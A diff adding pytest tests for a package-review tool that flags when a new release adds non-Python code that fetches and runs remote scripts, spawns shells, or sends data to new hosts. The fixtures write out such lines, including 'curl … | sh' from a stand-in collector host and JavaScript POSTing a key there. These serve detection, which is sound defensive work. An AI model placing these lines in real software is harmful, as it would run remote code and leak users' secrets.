@@ -1,0 +1,153 @@
+"""Power in what is no Python: scripts, recipes, compiled sources, pages and settings."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from pinkeeper.model.finding import Severity
+from tests.review.corpus.judge import judge
+from tests.support.distributions import make_sdist, make_wheel
+
+FETCHES = "curl -s https://files.collector.invalid/x | sh"
+
+
+def wheels(tmp_path: Path, before: dict[str, str], after: dict[str, str]) -> dict[str, Severity]:
+    return _judged(tmp_path, make_wheel, before, after)
+
+
+def sdists(tmp_path: Path, before: dict[str, str], after: dict[str, str]) -> dict[str, Severity]:
+    return _judged(tmp_path, make_sdist, before, after)
+
+
+def _judged(tmp_path, make, before, after):
+    sides = []
+    for version, files in (("1.0", before), ("1.1", after)):
+        built = make("gate", version, files={"gate/__init__.py": "A = 1\n", **files})
+        folder = tmp_path / version
+        folder.mkdir()
+        (folder / built.filename).write_bytes(built.content)
+        sides.append([folder / built.filename])
+    rules: dict[str, Severity] = {}
+    for finding in judge(*sides).findings:
+        rules.setdefault(finding.rule, finding.severity)
+    return rules
+
+
+@pytest.mark.parametrize(
+    "path",
+    ["gate/setup.sh", "gate/Makefile", "gate/prepare.ps1", "gate/Dockerfile", "gate-1.1.data/scripts/gate-setup"],
+)
+@pytest.mark.parametrize("was_there", [True, False])
+def test_a_recipe_that_fetches_and_runs(tmp_path, path, was_there):
+    plain = "#!/bin/sh\necho ready\n"
+    before = {path.replace("1.1", "1.0"): plain} if was_there else {}
+    assert wheels(tmp_path, before, {path: f"{plain}{FETCHES}\n"})["other-source"] is Severity.HIGH
+
+
+def test_a_recipe_that_fetches_alone(tmp_path):
+    before = {"gate/setup.sh": "#!/bin/sh\necho ready\n"}
+    after = {"gate/setup.sh": "#!/bin/sh\ncurl -O https://files.gate.example/model.bin\n"}
+    assert "other-source" not in wheels(tmp_path, before, after)
+
+
+@pytest.mark.parametrize(
+    ("path", "line"),
+    [
+        ("src/fast.c", 'int init(void) { return system("id"); }'),
+        ("src/fast.cpp", 'FILE *f = popen("id", "r");'),
+        ("gate/_fast.pyx", "from libc.stdlib cimport system"),
+        ("src/lib.rs", 'let _ = std::process::Command::new("sh").status();'),
+        ("build.rs", 'fn main() { Command::new("sh").arg("-c").status().unwrap(); }'),
+        ("CMakeLists.txt", f'execute_process(COMMAND sh -c "{FETCHES}")'),
+        ("src/main.go", 'cmd := exec.Command("sh", "-c", "id")'),
+    ],
+)
+def test_a_source_that_starts_programs(tmp_path, path, line):
+    assert sdists(tmp_path, {path: "begin\n"}, {path: f"begin\n{line}\n"})["other-source"] is Severity.HIGH
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "// system(x) would do",
+        "window.system(x);",
+        "ns::popen(x);",
+        "signal.connect(x);",
+        "int file_system(int x);",
+        "int sub(int a, int b) { return a - b; }",
+    ],
+)
+def test_sources_that_start_nothing(tmp_path, line):
+    found = sdists(tmp_path, {"src/fast.cpp": "int a;\n"}, {"src/fast.cpp": f"int a;\n{line}\n"})
+    assert "other-source" not in found
+
+
+def test_where_sources_started_programs_before_another_is_worth_a_glance(tmp_path):
+    before = {"src/a.c": 'int a(void) { return system("ls"); }\n', "src/b.c": "int b;\n"}
+    after = {**before, "src/b.c": 'int b;\nint c(void) { return system("ls"); }\n'}
+    assert sdists(tmp_path, before, after)["other-source"] is Severity.MEDIUM
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("gate/app.js", "fetch('https://files.collector.invalid/k', {method: 'POST', body: key});\n"),
+        ("gate/app.js", 'navigator.sendBeacon("https://files.collector.invalid/k", key);\n'),
+        ("gate/app.ts", "const s = new WebSocket(`wss://files.collector.invalid/k`);\n"),
+        ("gate/app.js", "x.open('POST', 'https://files.collector.invalid/k');\n"),
+        ("gate/index.html", "<script async src='//files.collector.invalid/a.js'></script>\n"),
+        ("gate/index.html", '<form method=post action="https://files.collector.invalid/k">\n'),
+    ],
+)
+def test_a_page_that_goes_to_a_new_host(tmp_path, path, text):
+    before = {path: "const api = '/api';\n"}
+    assert wheels(tmp_path, before, {path: before[path] + text})["other-source"] is Severity.HIGH
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "fetch('/api/v2/models');\n",
+        "fetch('https://api.gate.example/v2');\n",
+        "fetch('http://localhost:8000/x');\n",
+        "// see https://docs.elsewhere.invalid/\n",
+        "fetch(`https://${host}/x`);\n",
+    ],
+)
+def test_a_page_that_stays_where_it_was(tmp_path, text):
+    before = {"gate/app.js": "const api = 'https://api.gate.example/v1';\n"}
+    assert "other-source" not in wheels(tmp_path, before, {"gate/app.js": before["gate/app.js"] + text})
+
+
+@pytest.mark.parametrize(
+    ("path", "form"),
+    [
+        ("gate/defaults.json", '{{"base_url": "https://{}/v1", "timeout": 30}}\n'),
+        ("gate/defaults.toml", 'api_base = "https://{}/v1"\n'),
+        ("gate/defaults.yaml", "client:\n  registry: https://{}/v1\n"),
+    ],
+)
+def test_a_setting_that_names_another_host(tmp_path, path, form):
+    before, after = {path: form.format("api.gate.example")}, {path: form.format("api.gate-eu.invalid")}
+    assert wheels(tmp_path, before, after)["other-source"] is Severity.HIGH
+
+
+@pytest.mark.parametrize(
+    ("old", "new"),
+    [
+        ('"base_url": "https://api.gate.example/v1"', '"base_url": "https://api.gate.example/v2"'),
+        ('"base_url": "https://api.gate.example/v1"', '"base_url": "https://eu.gate.example/v1"'),
+        ('"homepage": "https://gate.example"', '"homepage": "https://gate.invalid"'),
+        ('"source": "https://a.example/prices"', '"source": "https://b.invalid/prices"'),
+        ('"a": 1', '"endpoint": "https://new.invalid"'),
+    ],
+)
+def test_settings_that_do_not_send_things_elsewhere(tmp_path, old, new):
+    before, after = {"gate/data.json": f"{{{old}}}\n"}, {"gate/data.json": f"{{{new}}}\n"}
+    assert "other-source" not in wheels(tmp_path, before, after)
+
+
+def test_files_of_tests_are_context(tmp_path):
+    assert set(wheels(tmp_path, {}, {"gate/tests/run.sh": f"{FETCHES}\n"}).values()) == {Severity.LOW}
